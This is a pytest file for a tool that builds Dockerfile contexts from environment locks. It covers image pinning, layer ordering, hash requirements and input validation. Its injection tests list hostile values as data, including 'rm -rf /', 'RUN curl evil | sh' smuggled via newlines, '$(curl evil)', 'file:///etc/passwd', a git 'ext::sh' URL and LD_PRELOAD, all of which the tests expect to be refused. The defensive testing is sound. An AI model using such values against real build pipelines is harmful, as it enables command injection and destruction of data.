"""Rendering a build context from a lock: pinning, layers, hashes, refusals (no engine)."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest
from helpers import LockFactory

from envlock.errors import IndexUnavailable, NotRestorable, UnsafeValue, UsageError
from envlock.restore import context as ctx
from envlock.restore import dockerfile
from envlock.restore.image import Options

DIGEST = "sha256:" + "ab" * 32
IMAGE_ID = "sha256:" + "cd" * 32
HASH = "sha256:" + "12" * 32


def render(lock: Any, **opts: Any) -> str:
    plan = ctx.plan(lock, Options(**opts))
    return dockerfile.render(plan)["Dockerfile"]


def from_line(dockerfile: str) -> str:
    return next(line for line in dockerfile.splitlines() if line.startswith("FROM "))


# -- base pinning ------------------------------------------------------------------------------


def test_lock_image_digest_is_pinned_and_tag_dropped(restore_lock: LockFactory) -> None:
    lock = restore_lock(image={"reference": "ghcr.io/lab/train:2024", "digest": DIGEST})
    assert from_line(render(lock)) == f"FROM ghcr.io/lab/train@{DIGEST}"


def test_lock_image_with_only_an_id_builds_from_the_id(restore_lock: LockFactory) -> None:
    lock = restore_lock(image={"reference": "local/built:1", "id": IMAGE_ID})
    assert from_line(render(lock)) == f"FROM {IMAGE_ID}"


def test_base_option_overrides_the_lock_image(restore_lock: LockFactory) -> None:
    lock = restore_lock(image={"reference": "a/b:1", "digest": DIGEST})
    other = "sha256:" + "ef" * 32
    assert from_line(render(lock, base=f"python@{other}")) == f"FROM python@{other}"


def test_unpinned_base_is_refused(restore_lock: LockFactory) -> None:
    lock = restore_lock()
    with pytest.raises(UsageError, match="not pinned"):
        render(lock, base="python:3.11-slim")
    with pytest.raises(UsageError, match="not pinned"):
        render(lock)  # no image in the lock: the table's python base is a tag
    assert from_line(render(lock, base="python:3.11-slim", allow_unpinned_base=True)) == "FROM python:3.11-slim"


def test_table_base_follows_the_python_minor(restore_lock: LockFactory) -> None:
    lock = restore_lock(python={"version": "3.12.4", "implementation": "cpython"})
    assert from_line(render(lock, allow_unpinned_base=True)) == "FROM python:3.12-slim-bookworm"


def test_digest_without_repository_is_not_restorable(restore_lock: LockFactory) -> None:
    lock = restore_lock(image={"digest": DIGEST})
    with pytest.raises(NotRestorable, match="no repository"):
        render(lock)


def test_resolve_base_pins_a_tag_through_the_engine(restore_lock: LockFactory) -> None:
    from envlock.restore.engine import ImageInfo
    from envlock.restore.restore import resolve_base

    class Fake:
        def __init__(self, info: ImageInfo) -> None:
            self.info = info

        def image(self, ref: str) -> ImageInfo | None:
            return self.info

    lock = restore_lock()
    remote = ImageInfo(id=IMAGE_ID, repo_digests=(f"python@{DIGEST}",))
    base = resolve_base(Fake(remote), lock, Options(base="python:3.11-slim"))  # type: ignore[arg-type]  # Fake has only image()
    assert (base.ref, base.pinned, base.display) == (f"python@{DIGEST}", True, "python:3.11-slim")
    local = ImageInfo(id=IMAGE_ID)
    assert resolve_base(Fake(local), lock, Options(base="my/img:1")).ref == IMAGE_ID  # type: ignore[arg-type]  # Fake has only image()
    podman = ImageInfo(id=IMAGE_ID, repo_digests=(f"localhost/my/img@{DIGEST}",))
    assert resolve_base(Fake(podman), lock, Options(base="my/img:1")).ref == IMAGE_ID  # type: ignore[arg-type]  # Fake has only image()


# -- layers ------------------------------------------------------------------------------------

TORCH_PKGS = [("nvidia-cublas-cu12", "12.1.3.1"), ("pip", "24.0"), ("six", "1.16.0"),
              ("torch", "2.4.1+cu121"), ("triton", "3.0.0"), ("zipp", "3.20.0")]


def test_torch_and_nvidia_wheels_get_their_own_earlier_layer(restore_lock: LockFactory, torch_index: str) -> None:
    lock = restore_lock(image={"reference": "a/b", "digest": DIGEST}, packages=TORCH_PKGS,
                        torch={"version": "2.4.1+cu121", "cuda": "12.1"})
    plan = ctx.plan(lock, Options())
    files = dockerfile.render(plan)
    assert files["requirements/torch.txt"].splitlines()[1:] == [
        "nvidia-cublas-cu12==12.1.3.1", "torch==2.4.1+cu121", "triton==3.0.0"]
    assert files["requirements/packages.txt"].splitlines()[1:] == ["six==1.16.0", "zipp==3.20.0"]
    assert files["requirements/tooling.txt"].splitlines()[1:] == ["pip==24.0"]
    df = files["Dockerfile"]
    pos = {name: df.index(f"/{name}.txt\"]\nRUN") for name in ("torch", "packages", "tooling")}
    assert pos["torch"] < pos["packages"] < pos["tooling"]
    torch_run = next(line for line in df.splitlines() if line.startswith("RUN") and "torch.txt" in line)
    args = json.loads(torch_run[4:])
    # PyTorch's index (configured) for the +cu121 build, beside the installer's own default
    # index, which envlock leaves to pip's configuration.
    assert args[args.index("--extra-index-url") + 1] == f"{torch_index}/cu121"
    assert "--index-url" not in args
    assert "--no-deps" in args
    # Values that change often come last, so they never invalidate the torch layer.
    last_pip = max(m.start() for m in re.finditer(r"^RUN \[\"env\"", df, re.M))
    assert df.index("LABEL ") > last_pip
    assert df.index('ENV NVIDIA_VISIBLE_DEVICES') > last_pip


def test_the_default_index_is_left_to_pip_and_pytorchs_must_be_configured(
        restore_lock: LockFactory) -> None:
    plain = restore_lock(image={"reference": "a/b", "digest": DIGEST}, packages=[("six", "1.16.0")])
    # No index of envlock's own: pip in the image uses its configured default.
    assert "index-url" not in render(plain)
    assert '"--index-url", "https://pypi.lab.example/simple"' in render(
        plain, index_url="https://pypi.lab.example/simple")
    cuda = restore_lock(image={"reference": "a/b", "digest": DIGEST}, packages=TORCH_PKGS,
                        torch={"version": "2.4.1+cu121", "cuda": "12.1"})
    # A +cu121 build is on no default index: without ENVLOCK_TORCH_INDEX_URL, a clear error
    # before any build, rather than pip failing to find it inside one.
    with pytest.raises(IndexUnavailable, match=r"\+cu121 come from PyTorch's wheel index"):
        render(cuda)


# A RUN's mounts (``Plan.mounts``): read-only binds of envlock's own paths into /tmp.
MOUNT = re.compile(r"--mount=type=bind,source=(requirements|wheels|tools)(/[a-z0-9][a-z0-9._-]*)?,"
                   r"target=/tmp/envlock-(requirements|wheels|uv)(/[a-z0-9][a-z0-9._-]*)?")


def exec_form(line: str) -> list[str]:
    """A RUN line's argument list, its mounts (each checked against ``MOUNT``) cut off."""
    rest = line.removeprefix("RUN ")
    while rest.startswith("--mount="):
        mount, _, rest = rest.partition(" ")
        assert MOUNT.fullmatch(mount), mount
    argv = json.loads(rest)
    assert isinstance(argv, list) and all(isinstance(a, str) for a in argv), line
    return argv


@pytest.mark.parametrize("mounts", [False, True])
def test_every_run_with_lock_values_is_exec_form(restore_lock: LockFactory, torch_index: str,
                                                 mounts: bool) -> None:
    lock = restore_lock(image={"reference": "a/b", "digest": DIGEST}, packages=TORCH_PKGS,
                        torch={"version": "2.4.1+cu121", "cuda": "12.1"})
    runs = [line for line in render(lock, mounts=mounts).splitlines()
            if line.startswith("RUN ") and "useradd" not in line]
    # One pip RUN per layer (torch, packages, tooling) at least: an empty list would check nothing.
    assert len(runs) >= 3, runs
    for line in runs:
        exec_form(line)
    assert any("--mount=" in line for line in runs) == mounts


def test_determinism_env_user_workdir_and_labels(restore_lock: LockFactory) -> None:
    lock = restore_lock(image={"reference": "a/b", "digest": DIGEST},
                        determinism={"env": {"CUBLAS_WORKSPACE_CONFIG": ":4096:8", "PYTHONHASHSEED": "0"}})
    df = render(lock)
    assert 'ENV CUBLAS_WORKSPACE_CONFIG=":4096:8" PYTHONHASHSEED="0"' in df
    assert f'"org.envlock.fingerprint"="{lock.envlock.fingerprint}"' in df
    assert '"org.envlock.schema-version"="1"' in df
    assert "\nUSER 1000:1000\n" in df
    assert df.rstrip().endswith("WORKDIR /workspace")
    assert "envlock" not in "".join(line for line in df.splitlines() if line.startswith("RUN") and "pip" in line
                                    and "install" in line and "envlock-restore" not in line)


def test_venv_is_recreated_at_the_lock_path_and_extras_removed(restore_lock: LockFactory) -> None:
    lock = restore_lock(image={"reference": "a/b", "digest": DIGEST},
                        packages=[("pip", "23.0.1"), ("six", "1.16.0")])
    plan = ctx.plan(lock, Options())
    df = dockerfile.render(plan)["Dockerfile"]
    assert 'RUN ["python3", "-m", "venv", "/opt/venv"]' in df
    assert "ENV VIRTUAL_ENV=/opt/venv PATH=/opt/venv/bin:$PATH" in df
    assert plan.python == "/opt/venv/bin/python"
    # ensurepip gives setuptools on 3.11; the lock has none, so it must go (pip stays).
    assert plan.remove == ("wheel", "setuptools")
    uninstall = json.loads(next(line for line in df.splitlines() if line.startswith("RUN") and "uninstall" in line)[4:])
    assert uninstall[-2:] == ["wheel", "setuptools"]
    assert df.index("uninstall") > df.index("tooling.txt")


def test_lock_without_pip_removes_pip_last(restore_lock: LockFactory) -> None:
    lock = restore_lock(image={"reference": "a/b", "digest": DIGEST}, packages=[("six", "1.16.0")])
    assert ctx.plan(lock, Options()).remove == ("wheel", "setuptools", "pip")


def test_system_interpreter_breaks_system_packages_and_removes_nothing(restore_lock: LockFactory) -> None:
    lock = restore_lock(image={"reference": "a/b", "digest": DIGEST},
                        python={"version": "3.11.2", "implementation": "cpython", "prefix_kind": "system"})
    plan = ctx.plan(lock, Options())
    df = dockerfile.render(plan)["Dockerfile"]
    assert plan.venv is None and plan.remove == ()
    assert "PIP_BREAK_SYSTEM_PACKAGES=1" in df and "venv" not in df
    assert '"python3", "-m", "pip"' in df


def test_python_version_is_checked_in_the_first_step(restore_lock: LockFactory) -> None:
    df = render(restore_lock(image={"reference": "a/b", "digest": DIGEST}))
    first_run = next(line for line in df.splitlines() if line.startswith("RUN"))
    assert "(3, 11)" in first_run and "the lock needs 3.11" in first_run


def test_venv_under_the_workspace_is_refused(restore_lock: LockFactory) -> None:
    lock = restore_lock(image={"reference": "a/b", "digest": DIGEST},
                        python={"version": "3.11.2", "implementation": "cpython", "prefix_kind": "venv",
                                "prefix": "/workspace/.venv"})
    with pytest.raises(NotRestorable, match="lies under /workspace") as exc:
        render(lock)
    assert "--venv" in (exc.value.hint or "")
    assert "/opt/v2" in render(lock, venv="/opt/v2")


# -- hashes and sources ------------------------------------------------------------------------


def test_all_hashed_uses_require_hashes(restore_lock: LockFactory) -> None:
    lock = restore_lock(image={"reference": "a/b", "digest": DIGEST},
                        packages=[{"name": "six", "version": "1.16.0", "hashes": [HASH]},
                                  {"name": "idna", "version": "3.10", "hashes": [HASH, "sha256:" + "34" * 32]}])
    files = dockerfile.render(ctx.plan(lock, Options()))
    assert set(files) == {"Dockerfile", ".dockerignore", "restored.json", "requirements/packages-hashed.txt"}
    text = files["requirements/packages-hashed.txt"]
    assert f"six==1.16.0 \\\n    --hash={HASH}" in text
    assert text.count("--hash=") == 3
    assert '"--require-hashes"' in files["Dockerfile"]


def test_mixed_hashes_split_into_two_invocations(restore_lock: LockFactory) -> None:
    lock = restore_lock(image={"reference": "a/b", "digest": DIGEST},
                        packages=[{"name": "six", "version": "1.16.0", "hashes": [HASH]}, ("idna", "3.10")])
    files = dockerfile.render(ctx.plan(lock, Options()))
    assert "idna==3.10" in files["requirements/packages.txt"]
    assert "six==1.16.0" in files["requirements/packages-hashed.txt"]
    runs = [line for line in files["Dockerfile"].splitlines() if "packages" in line and line.startswith("RUN")]
    assert len(runs) == 2 and sum('"--require-hashes"' in r for r in runs) == 1


def test_url_and_vcs_sources_are_pinned(restore_lock: LockFactory) -> None:
    commit = "a" * 40
    lock = restore_lock(image={"reference": "a/b", "digest": DIGEST}, packages=[
        {"name": "lib", "version": "1.0", "source": "url", "url": "https://example.org/lib-1.0.tar.gz",
         "archive_hash": "sha256=" + "56" * 32},
        {"name": "tool", "version": "0.3", "source": "vcs", "vcs": "git",
         "url": "https://github.com/org/tool.git", "commit": commit}])
    files = dockerfile.render(ctx.plan(lock, Options()))
    assert ("lib @ https://example.org/lib-1.0.tar.gz \\\n    --hash=sha256:" + "56" * 32
            in files["requirements/packages-hashed.txt"])
    assert f"tool @ git+https://github.com/org/tool.git@{commit}" in files["requirements/packages.txt"]


@pytest.mark.parametrize(("algo", "hexlen", "pip_checks"),
                         [("sha256", 64, True), ("sha384", 96, True), ("sha512", 128, True), ("md5", 32, False),
                          ("sha1", 40, False)])
def test_one_hash_rule_for_the_requirement_file_and_the_wheelhouse(
        restore_lock: LockFactory, algo: str, hexlen: int, pip_checks: bool) -> None:
    from envlock.restore.wheelhouse import allowed_hashes

    archive = f"{algo}={'5' * hexlen}"
    lock = restore_lock(image={"reference": "a/b", "digest": DIGEST}, packages=[
        {"name": "lib", "version": "1.0", "source": "url", "url": "https://example.org/lib-1.0.tar.gz",
         "archive_hash": archive}])
    plan = ctx.plan(lock, Options())
    files = dockerfile.render(plan)
    # What pip's --hash takes goes to pip; any other algorithm is said and checked by envlock.
    assert (f"--hash={algo}:" in "".join(files.values())) is pip_checks
    assert any(f"archive hash is {algo}, which pip cannot check" in n for n in plan.notes) is not pip_checks
    assert allowed_hashes(lock.packages[0]) == (f"{algo}:{'5' * hexlen}",)


def test_vcs_branch_name_is_not_a_pin(restore_lock: LockFactory) -> None:
    lock = restore_lock(image={"reference": "a/b", "digest": DIGEST}, packages=[
        {"name": "tool", "version": "0.3", "source": "vcs", "vcs": "git",
         "url": "https://github.com/org/tool.git", "commit": "main"}])
    with pytest.raises(UnsafeValue, match="commit"):
        render(lock)


def test_editable_and_local_are_not_restorable_unless_skipped(restore_lock: LockFactory) -> None:
    lock = restore_lock(image={"reference": "a/b", "digest": DIGEST}, packages=[
        ("six", "1.16.0"),
        {"name": "myproj", "version": "0.1", "source": "editable", "url": "file:///home/me/myproj"},
        {"name": "wheelie", "version": "2.0", "source": "local", "url": "file:///tmp/wheelie-2.0.whl"}])
    with pytest.raises(NotRestorable) as exc:
        render(lock)
    assert "myproj 0.1 [editable" in exc.value.message and "wheelie" in exc.value.message
    assert "--skip-local" in (exc.value.hint or "")
    plan = ctx.plan(lock, Options(skip_local=True))
    assert plan.skipped == ("myproj", "wheelie")
    rendered = dockerfile.render(plan)
    # Only the record of what this restore left out on purpose names it.
    assert "myproj" not in "".join(v for k, v in rendered.items() if k != "restored.json")
    assert '"myproj"' in rendered["restored.json"]


def test_index_url_option(restore_lock: LockFactory) -> None:
    df = render(restore_lock(image={"reference": "a/b", "digest": DIGEST}), index_url="https://pypi.lab.example/simple")
    assert '"--index-url", "https://pypi.lab.example/simple"' in df


# -- refused injections ------------------------------------------------------------------------


@pytest.mark.parametrize("pkg", [
    {"name": "six", "version": "1.0; rm -rf /"},
    {"name": "six", "version": "1.0 --index-url=http://evil"},
    {"name": "six\nRUN curl evil | sh", "version": "1.0"},
    {"name": "Six_Pkg", "version": "1.0"},
    {"name": "six", "version": "not-a-version"},
    {"name": "lib", "version": "1.0", "source": "url", "url": "https://example.org/$(curl evil)"},
    {"name": "lib", "version": "1.0", "source": "url", "url": "file:///etc/passwd"},
    {"name": "lib", "version": "1.0", "source": "url", "url": "https://u:p@example.org/x.whl"},
    {"name": "lib", "version": "1.0", "source": "vcs", "vcs": "git", "url": "ext::sh -c evil",
     "commit": "a" * 40},
    {"name": "six", "version": "1.0", "hashes": ["md5:abc"]},
])
def test_crafted_package_values_are_refused(restore_lock: LockFactory, pkg: dict[str, Any]) -> None:
    lock = restore_lock(image={"reference": "a/b", "digest": DIGEST}, packages=[pkg], construct=True)
    with pytest.raises(UnsafeValue):
        render(lock)


@pytest.mark.parametrize("env", [
    {"CUBLAS_WORKSPACE_CONFIG": ":4096:8\nRUN curl evil | sh"},
    {"CUBLAS_WORKSPACE_CONFIG": "$(id)"},
    {"CUBLAS_WORKSPACE_CONFIG": 'a" && evil "'},
    {"LD_PRELOAD": "/tmp/evil.so"},
    {"bad name": "1"},
])
def test_crafted_env_is_refused(restore_lock: LockFactory, env: dict[str, str]) -> None:
    lock = restore_lock(image={"reference": "a/b", "digest": DIGEST}, determinism={"env": env})
    with pytest.raises(UnsafeValue):
        render(lock)


@pytest.mark.parametrize("image", [
    {"reference": "a/b", "digest": "md5:" + "ab" * 16},
    {"reference": "a/b", "digest": "sha256:" + "AB" * 32},
])
def test_crafted_digest_is_refused(restore_lock: LockFactory, image: dict[str, str]) -> None:
    from envlock.lock import Image

    lock = restore_lock().model_copy(update={"image": Image.model_construct(None, **image)})
    with pytest.raises(UnsafeValue, match="digest"):
        render(lock)


@pytest.mark.parametrize("base", ["python:3.11\nRUN evil", "python:3.11 AS x", "py thon", "a/b@sha1:abc",
                                  "$(id)/x:1"])
def test_crafted_base_is_refused(restore_lock: LockFactory, base: str) -> None:
    # --base is the user's own input: a usage error about the option (exit 2, like a crafted
    # lock value), which never says the lock was edited or crafted.
    with pytest.raises(UsageError, match=r"^--base ") as err:
        render(restore_lock(), base=base, allow_unpinned_base=True)
    assert not isinstance(err.value, UnsafeValue) and "crafted" not in (err.value.hint or "")


@pytest.mark.parametrize("prefix", ["/opt/venv; rm -rf /", "relative/venv", "/opt/../etc", "/usr/bin",
                                    "/opt/v$(id)"])
def test_crafted_venv_path_is_refused(restore_lock: LockFactory, prefix: str) -> None:
    from envlock.lock import PythonInfo

    lock = restore_lock(image={"reference": "a/b", "digest": DIGEST})
    py = PythonInfo.model_construct(version="3.11.2", implementation="cpython", prefix_kind="venv", prefix=prefix)
    with pytest.raises(UnsafeValue):
        render(lock.model_copy(update={"python": py}))


def test_cli_refuses_a_crafted_lock_with_exit_2(restore_lock: LockFactory, tmp_path: Path,
                                                 capsys: pytest.CaptureFixture[str]) -> None:
    from envlock.commands import main
    from envlock.lock import atomic_write, dumps

    lock = restore_lock(image={"reference": "a/b", "digest": DIGEST},
                        determinism={"env": {"CUBLAS_WORKSPACE_CONFIG": "x\nRUN curl evil|sh"}})
    path = tmp_path / "env.lock"
    atomic_write(path, dumps(lock))
    out = tmp_path / "ctx"
    assert main(["restore", str(path), "--dockerfile-only", str(out)]) == 2
    assert "refusing" in capsys.readouterr().err
    assert not (out / "Dockerfile").exists()


def test_dockerfile_only_writes_a_complete_context(restore_lock: LockFactory, tmp_path: Path) -> None:
    from envlock.commands import main
    from envlock.lock import save

    lock = restore_lock(image={"reference": "a/b", "digest": DIGEST})
    save(lock, tmp_path / "env.lock")
    assert main(["restore", str(tmp_path / "env.lock"), "--dockerfile-only", str(tmp_path / "ctx")]) == 0
    assert sorted(p.relative_to(tmp_path / "ctx").as_posix() for p in (tmp_path / "ctx").rglob("*")
                  if p.is_file()) == [".dockerignore", ".envlock-context", "Dockerfile",
                                      "requirements/packages.txt",
                                      "requirements/tooling.txt", "restored.json"]


def test_context_key_is_stable_and_content_sensitive(restore_lock: LockFactory) -> None:
    lock = restore_lock(image={"reference": "a/b", "digest": DIGEST})
    a = dockerfile.context_key(ctx.plan(lock, Options()))
    assert a == dockerfile.context_key(ctx.plan(lock, Options()))
    assert a != dockerfile.context_key(ctx.plan(lock, Options(index_url="https://pypi.lab.example/simple")))


def _through_torch_layer(dockerfile_text: str) -> list[str]:
    """The Dockerfile's instructions up to the torch layer's last RUN, comments left out (the
    builder's cache ignores them; the first one names the lock)."""
    lines = [line for line in dockerfile_text.splitlines() if line and not line.startswith("#")]
    last = max(i for i, line in enumerate(lines) if line.startswith("RUN") and "/torch" in line)
    return lines[:last + 1]


def _through_from(dockerfile_text: str) -> list[str]:
    lines = [line for line in dockerfile_text.splitlines() if line and not line.startswith("#")]
    return lines[:next(i for i, line in enumerate(lines) if line.startswith("FROM")) + 1]


@pytest.mark.parametrize("mounts", [False, True])
@pytest.mark.parametrize("offline", [False, True])
def test_the_torch_layer_depends_only_on_its_own_pins(restore_lock: LockFactory, torch_index: str,
                                                       tmp_path: Path, offline: bool, mounts: bool) -> None:
    """Two locks that differ by one small package: everything the engine's cache keys the torch
    layer on (its requirement files, its wheels, every instruction up to its RUN) is the same
    bytes, so the second restore reuses the torch layer (docs/restore.md)."""
    base: dict[str, Any] = dict(image={"reference": "a/b", "digest": DIGEST},
                                torch={"version": "2.4.1+cu121", "cuda": "12.1"})
    one = restore_lock(packages=TORCH_PKGS, **base)
    other = restore_lock(packages=[p if p[0] != "six" else ("six", "1.17.0") for p in TORCH_PKGS],
                         **base)
    assert one.short_id != other.short_id
    opts: dict[str, Any] = {}
    wheels_for: dict[str, tuple[Path, ...]] = {}
    if offline:
        for name, version in [*TORCH_PKGS, ("six", "1.17.0")]:
            wheel = tmp_path / f"{name.replace('-', '_')}-{version}-py3-none-any.whl"
            wheel.write_bytes(f"{name} {version}".encode())
            wheels_for.setdefault(name, ())
            wheels_for[name] = (*wheels_for[name], wheel)
        opts["wheelhouse"] = tmp_path

    def files(lock: Any) -> tuple[dict[str, str], ctx.Plan]:
        pins = {p.name: p.version for p in lock.packages}
        mine = {n: tuple(w for w in ws if f"-{pins.get(n)}-" in w.name) for n, ws in wheels_for.items()}
        plan = ctx.plan(lock, Options(**opts, mounts=mounts), wheels_for=mine if offline else None)
        return dockerfile.render(plan), plan

    (a, plan_a), (b, plan_b) = files(one), files(other)
    torch_files = sorted(k for k in a if k.startswith("requirements/torch"))
    assert torch_files
    for rel in torch_files:
        assert a[rel].encode() == b[rel].encode(), rel
    if offline:
        # The torch layer is an image of its own: its Dockerfile (label and tag included) is
        # the same bytes, and both images start FROM it.
        assert plan_a.split_torch and plan_b.split_torch
        assert a[dockerfile.TORCH_LAYER_DOCKERFILE] == b[dockerfile.TORCH_LAYER_DOCKERFILE]
        assert dockerfile.torch_layer_key(plan_a) == dockerfile.torch_layer_key(plan_b)
        assert _through_from(a["Dockerfile"]) == _through_from(b["Dockerfile"])
    else:
        assert _through_torch_layer(a["Dockerfile"]) == _through_torch_layer(b["Dockerfile"])
    assert plan_a.wheels.get("torch") == plan_b.wheels.get("torch")
    # The small package's own layer does change.
    assert a["requirements/packages.txt"] != b["requirements/packages.txt"]
